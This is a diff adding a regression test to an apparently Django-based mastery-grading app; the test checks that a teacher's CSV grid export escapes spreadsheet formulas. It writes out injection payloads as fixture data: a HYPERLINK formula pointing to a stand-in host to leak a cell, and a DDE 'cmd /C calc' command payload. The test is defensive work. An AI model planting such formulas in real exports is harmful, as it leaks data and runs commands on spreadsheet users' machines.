@@ -971,3 +971,30 @@ def test_the_grid_csv_is_downloadable_whatever_the_sections_name(
     response = client.get(reverse("section-grid-csv", kwargs={"pk": world.math.pk}))
     assert response.status_code == 200
     assert response["Content-Disposition"] == expected
+
+
+def test_the_grid_csv_never_hands_a_spreadsheet_a_formula(world: World, client: Any) -> None:
+    """Found by the probe: a student's name from the roster, a target's code or statement from
+    a CASE package went into the CSV as they were, so "=HYPERLINK(...)" ran in the teacher's
+    spreadsheet. Such cells now start with an apostrophe; the numbers are untouched."""
+    import csv
+    import io
+
+    from mastery.models import Competency
+    from profiles.models import User as Person
+    from tests.mastery.conftest import build_maths
+
+    maths = build_maths(world)
+    Person.objects.filter(pk=world.student.pk).update(
+        given_name='=HYPERLINK("https://evil.example/?"&B2', family_name='"Sam")'
+    )
+    Competency.objects.filter(pk=maths.t1.pk).update(
+        code="", short_statement="", statement="@SUM(1+1)*cmd|' /C calc'!A0"
+    )
+    client.force_login(world.teacher)
+    response = client.get(reverse("section-grid-csv", kwargs={"pk": world.math.pk}))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], cells
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
+    assert any(c.startswith("'@SUM") for c in cells)
